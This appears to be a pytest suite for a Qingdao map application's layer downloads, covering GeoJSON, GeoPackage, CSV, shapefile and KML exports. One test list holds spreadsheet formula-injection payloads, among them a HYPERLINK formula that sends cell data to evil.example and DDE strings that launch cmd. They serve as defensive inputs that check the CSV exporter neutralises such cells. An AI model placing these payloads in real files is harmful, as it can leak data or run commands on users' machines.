"""Downloads: every layer, filtered or not, in each format, read back with GDAL (pyogrio)."""

import csv
import io
import zipfile

import pyogrio
import pytest
import shapely
from werkzeug.http import parse_options_header

from layers.export import FORMULA_STARTS, neutralize_formula, restore_formula

FORMATS = ["geojson", "gpkg", "csv", "shp", "kml"]


def read_back(tmp_path, response, layer_id, fmt):
    path = tmp_path / f"download.{'zip' if fmt == 'shp' else fmt}"
    path.write_bytes(response.data)
    if fmt == "shp":
        names = zipfile.ZipFile(io.BytesIO(response.data)).namelist()
        assert {f"{layer_id}.{ext}" for ext in ("shp", "shx", "dbf", "prj", "cpg")} <= set(names)
        zipfile.ZipFile(io.BytesIO(response.data)).extractall(tmp_path / "shp")  # the server keeps no /vsizip/
        return pyogrio.raw.read(str(tmp_path / "shp" / f"{layer_id}.shp"))
    return pyogrio.raw.read(str(path))


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("layer_id", ["outdoor_dining_pilots", "night_economy_zones", "pedestrian_streets"])
def test_round_trip(client, app, tmp_path, layer_id, fmt):
    response = client.get(f"/api/layers/{layer_id}/download", query_string={"format": fmt})
    assert response.status_code == 200, response.data[:300]
    disposition, options = parse_options_header(response.headers["Content-Disposition"])
    assert disposition == "attachment" and options["filename"].startswith(f"qingdao-{layer_id}")
    meta, _, geometry, fields = read_back(tmp_path, response, layer_id, fmt)
    live = app.extensions["catalog"].get(layer_id)
    columns = {name.lower(): values for name, values in zip(meta["fields"], fields)}
    assert list(columns["name"]) == [p["name"] for p in live.layer.properties]  # Chinese text survives
    assert [str(v) for v in columns["id"]] == [str(i) for i in live.layer.ids]
    if fmt == "csv" and live.kind.is_point_layer:
        got = shapely.points(columns["lon"].astype(float), columns["lat"].astype(float))
    elif fmt == "csv":
        got = shapely.from_wkt(columns["wkt"])
    else:
        got = shapely.from_wkb(geometry)
    assert shapely.equals_exact(shapely.force_2d(got), live.layer.geometries, tolerance=1e-6).all() or all(
        shapely.equals(a, b) for a, b in zip(shapely.force_2d(got), live.layer.geometries))
    if fmt in ("gpkg", "shp"):
        note = columns["note"]
        assert list(note) == [p.get("note") for p in live.layer.properties]  # long Chinese text is not cut


def test_filters_apply_to_downloads(client, tmp_path):
    response = client.get("/api/layers/outdoor_dining_pilots/download",
                          query_string={"format": "gpkg", "district": "市北区", "bbox": "120.30,36.05,120.40,36.10"})
    meta, _, _, fields = read_back(tmp_path, response, "outdoor_dining_pilots", "gpkg")
    districts = fields[list(meta["fields"]).index("district")]
    assert len(districts) == 3 and set(districts) == {"市北区"}


@pytest.mark.parametrize("query, expected", [
    ({"format": "xlsx"}, "format='xlsx' is not offered"),
    ({"format": "gpkg", "bbox": "1,2"}, "bbox needs 4 numbers"),
    ({"format": "gpkg", "limit": "5"}, "unknown parameter 'limit'"),
    ({"format": "gpkg", "status": "closed"}, "'closed' is not one of"),
])
def test_bad_download_requests_are_400(client, query, expected):
    response = client.get("/api/layers/outdoor_dining_pilots/download", query_string=query)
    assert response.status_code == 400 and expected in response.get_json()["detail"]


def test_download_what_i_see(client, tmp_path):
    view = {"layers": "hq_clusters,pedestrian_streets", "bbox": "120.30,36.05,120.42,36.10"}
    gpkg = client.get("/api/download", query_string={**view, "format": "gpkg"})
    path = tmp_path / "view.gpkg"
    path.write_bytes(gpkg.data)
    layers = dict(pyogrio.list_layers(path))
    assert set(layers) == {"hq_clusters", "pedestrian_streets"}
    assert pyogrio.read_info(path, layer="hq_clusters")["features"] == 1  # only Fushan Bay is in view
    zipped = client.get("/api/download", query_string={**view, "format": "kml"})
    assert zipped.mimetype == "application/zip"
    assert sorted(zipfile.ZipFile(io.BytesIO(zipped.data)).namelist()) == ["hq_clusters.kml", "pedestrian_streets.kml"]
    assert client.get("/api/download", query_string={"layers": "casinos", "format": "gpkg"}).status_code == 400
    assert client.get("/api/download", query_string={"format": "gpkg"}).status_code == 400


def test_empty_selection_still_makes_a_valid_file(client, tmp_path):
    response = client.get("/api/layers/hq_clusters/download", query_string={"format": "gpkg", "district": "莱西市"})
    path = tmp_path / "empty.gpkg"
    path.write_bytes(response.data)
    assert pyogrio.read_info(path)["features"] == 0


FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我 Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text, expected", [
    *[(t, "'" + t) for t in FORMULAS],
    ("台东步行街", "台东步行街"), ("", ""), ("a=b", "a=b"), ("'", "'"), ("'plain", "'plain"),
    ("'=already", "''=already"), ("''", "'''"),
])
def test_neutralize_formula_and_its_inverse(text, expected):
    assert neutralize_formula(text) == expected
    assert restore_formula(expected) == text
    assert neutralize_formula(text)[:1] not in FORMULA_STARTS


def test_restore_is_the_inverse_of_neutralize_for_every_short_text():
    alphabet = ["=", "+", "-", "@", "\t", "\r", "'", "a", "1", " ", "中"]
    texts = [""] + alphabet + [a + b for a in alphabet for b in alphabet] + [a + b + c for a in "'=" for b in "'=a" for c in "'a"]
    for text in texts:
        assert restore_formula(neutralize_formula(text)) == text, repr(text)


def test_csv_cells_that_start_like_formulas_are_quoted_and_numbers_stay_numbers(data_copy):
    from webmap import create_app

    from .conftest import feature_collection, point

    features = [point(f"od-{i}", 120.38 + i / 1000, 36.07, name=text, note=text, capacity=12 + i)
                for i, text in enumerate(FORMULAS[:4])]
    features.append(point("=1+1", 120.39, 36.08, area_m2=-0.0 + 1.5))
    (data_copy / "outdoor_dining_pilots.geojson").write_text(feature_collection(features), "utf-8")
    client = create_app({"TESTING": True, "DATA_DIR": str(data_copy)}).test_client()
    response = client.get("/api/layers/outdoor_dining_pilots/download", query_string={"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [row["name"] for row in rows[:4]] == ["'" + t for t in FORMULAS[:4]]
    assert [row["note"] for row in rows[:4]] == ["'" + t for t in FORMULAS[:4]]
    assert rows[4]["id"] == "'=1+1" and rows[4]["name"] == "测试点 =1+1"
    assert [row["capacity"] for row in rows[:4]] == ["12", "13", "14", "15"] and rows[4]["area_m2"] == "1.5"
    assert [float(row["lon"]) for row in rows] == pytest.approx([120.38, 120.381, 120.382, 120.383, 120.39])
    assert [restore_formula(row["name"]) for row in rows[:4]] == FORMULAS[:4]
    # the other formats keep the text as it is
    geojson = client.get("/api/layers/outdoor_dining_pilots/download", query_string={"format": "geojson"}).get_json(force=True)
    assert [f["properties"]["name"] for f in geojson["features"][:4]] == FORMULAS[:4]


def test_geopackages_are_version_1_2_for_older_gdal_and_qgis(client, tmp_path):
    import sqlite3

    for url in ("/api/layers/outdoor_dining_pilots/download?format=gpkg",
                "/api/download?layers=outdoor_dining_pilots,hq_clusters&format=gpkg"):
        path = tmp_path / "x.gpkg"
        path.write_bytes(client.get(url).data)
        conn = sqlite3.connect(path)
        assert conn.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47  # "GPKG"
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 10200  # 1.2.0, not GDAL's default 1.4
        conn.close()


def test_cached_exports_of_an_older_revision_are_not_served(app, client):
    from layers import export

    cache = app.extensions["exports"]
    live = app.extensions["catalog"].get("outdoor_dining_pilots")
    stale = cache.directory / live.kind.id / f"v{live.version}-{live.digest}-gpkg.gpkg"  # as revision 1 named it
    stale.parent.mkdir(parents=True, exist_ok=True)
    stale.write_bytes(b"an export written by an older release")
    data = client.get("/api/layers/outdoor_dining_pilots/download?format=gpkg").data
    assert data.startswith(b"SQLite format 3") and not stale.exists()
    assert export.EXPORT_REVISION >= 2


def test_long_chinese_text_in_a_shapefile_is_cut_on_a_character_boundary_and_said(tmp_path):
    import zipfile

    import numpy as np

    from layers.catalog import Catalog
    from layers.export import DBF_TEXT_BYTES, export
    from layers.readers import read_file

    from .conftest import DATA

    live = Catalog.from_directory(DATA).get("outdoor_dining_pilots")
    layer = live.layer
    note = "外摆试点说明" * 32  # 192 characters, 576 bytes in UTF-8
    layer.properties[0] = dict(layer.properties[0], note=note)
    data, name, _ = export([(live.kind, layer, np.arange(live.count))], "shp", "x")
    path = tmp_path / name
    path.write_bytes(data)
    archive = zipfile.ZipFile(path)
    said = archive.read("outdoor_dining_pilots.truncated.txt").decode("utf-8")
    assert f"{layer.ids[0]}\tnote\t192" in said and "GeoPackage" in said
    archive.extractall(tmp_path / "shp")
    meta, _, _, fields = pyogrio.raw.read(str(tmp_path / "shp" / "outdoor_dining_pilots.shp"))
    got = fields[list(meta["fields"]).index("note")][0]
    assert got == note[:DBF_TEXT_BYTES // 3] and "\ufffd" not in got  # 84 whole characters, nothing broken
    back = read_file(path, live.kind)  # the note file in the zip is ignored by the importer
    assert back.report.ok and len(back) == live.count


def test_a_csv_for_excel_starts_with_a_byte_order_mark_and_reads_back(client, tmp_path):
    from layers.readers import read_file
    from layers.registry import get

    plain = client.get("/api/layers/outdoor_dining_pilots/download?format=csv").data
    excel = client.get("/api/layers/outdoor_dining_pilots/download?format=csv-excel").data
    assert not plain.startswith(b"\xef\xbb\xbf") and excel.startswith(b"\xef\xbb\xbf")
    assert excel[3:] == plain  # the same text, so Excel on Chinese Windows shows it as UTF-8
    path = tmp_path / "excel.csv"
    path.write_bytes(excel)
    layer = read_file(path, get("outdoor_dining_pilots"))
    assert layer.report.ok and len(layer) == 13


def test_kml_booleans_are_written_as_1_and_0_that_older_gdal_reads(client, tmp_path):
    import re

    from layers.readers import read_file
    from layers.registry import get

    kml = client.get("/api/layers/night_economy_zones/download?format=kml").data.decode("utf-8")
    # GDAL 3.6 / QGIS 3.22 read the value "true" as the integer 0: the flag is written as 1 or 0
    values = re.findall(r'<SimpleData name="is_24h_pilot">([^<]*)</SimpleData>', kml)
    assert set(values) <= {"0", "1"} and "1" in values
    path = tmp_path / "n.kml"
    path.write_text(kml, "utf-8")
    back = read_file(path, get("night_economy_zones"))
    assert back.report.ok and sum(1 for p in back.properties if p.get("is_24h_pilot") is True) == values.count("1")


def test_kml_keeps_field_types_and_the_id_for_older_gdal(client, tmp_path):
    import subprocess

    path = tmp_path / "odp.kml"
    path.write_bytes(client.get("/api/layers/outdoor_dining_pilots/download?format=kml").data)

    def ogrinfo(*config):
        done = subprocess.run(["/usr/bin/ogrinfo", "-ro", "-al", *config, str(path)], capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        return done.stdout

    text = ogrinfo()  # Debian's GDAL 3.6, as QGIS 3.22 reads it
    for column in ("id: String", "capacity: Integer", "designation_year: Integer", "area_m2: Real",
                   "Name: String"):  # GDAL names the Placemark's <name> "Name" (LIBKML_NAME_FIELD)...
        assert f"\n{column} (" in text, column
    assert "  id (String) = od-pichaiyuan-cafe\n" in text and "  capacity (Integer) = 24\n" in text
    named = ogrinfo("--config", "LIBKML_NAME_FIELD", "name")  # ...and "name" when asked to
    assert "\nname: String (" in named and "\nName: String (" not in named
    assert "  name (String) = 劈柴院巷口咖啡外摆\n" in named


def test_csv_for_gis_is_a_zip_with_column_types_qgis_reads_and_a_prj(client, tmp_path):
    import re
    import zipfile

    import pyproj

    from layers.readers import read_file
    from layers.registry import get

    response = client.get("/api/layers/districts/download?format=csv-gis")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    _, options = parse_options_header(response.headers["Content-Disposition"])
    assert options["filename"] == "qingdao-districts-csv-gis.zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert sorted(archive.namelist()) == ["districts.csv", "districts.csvt", "districts.prj"]
    header = archive.read("districts.csv").decode("utf-8").splitlines()[0].split(",")
    csvt = archive.read("districts.csvt").decode("ascii").strip()
    types = dict(zip(header, csvt.split(",")))
    assert types == {"WKT": "String", "id": "String", "adcode": "String", "name": "String", "name_en": "String",
                     "source": "String"}
    # QGIS 3.22's delimited-text reader takes a .csvt only if it matches this (qgsdelimitedtextprovider.cpp)
    qgis_322 = (r'(?:\s*("?)(?:integer|real|double|long|longlong|int8|string|date|datetime|time)'
                r'(?:\(\d+(?:\.\d+)?\))?\1\s*(?:,|$))+')
    assert re.fullmatch(qgis_322, csvt.lower())
    assert pyproj.CRS.from_wkt(archive.read("districts.prj").decode()).equals("EPSG:4326", ignore_axis_order=True)
    archive.extractall(tmp_path)
    info = pyogrio.read_info(tmp_path / "districts.csv")  # GDAL reads the .csvt beside the .csv
    assert dict(zip(info["fields"], info["ogr_types"]))["adcode"] == "OFTString"
    (tmp_path / "download.zip").write_bytes(response.data)
    back = read_file(tmp_path / "download.zip", get("districts"))  # the importer takes the zip as it came
    assert back.report.ok and len(back) == 10 and back.properties[0]["adcode"] == "370202"
    points = zipfile.ZipFile(io.BytesIO(client.get("/api/layers/outdoor_dining_pilots/download?format=csv-gis").data))
    csvt = points.read("outdoor_dining_pilots.csvt").decode().strip().split(",")
    header = points.read("outdoor_dining_pilots.csv").decode().splitlines()[0].split(",")
    types = dict(zip(header, csvt))
    assert len(csvt) == len(header) and types["capacity"] == types["designation_year"] == "Integer"
    assert types["area_m2"] == types["lon"] == types["lat"] == "Real" and types["venue_type"] == "String"
    view = client.get("/api/download?layers=districts,hq_clusters&format=csv-gis")
    assert sorted(zipfile.ZipFile(io.BytesIO(view.data)).namelist()) == [
        "districts.csv", "districts.csvt", "districts.prj", "hq_clusters.csv", "hq_clusters.csvt", "hq_clusters.prj"]
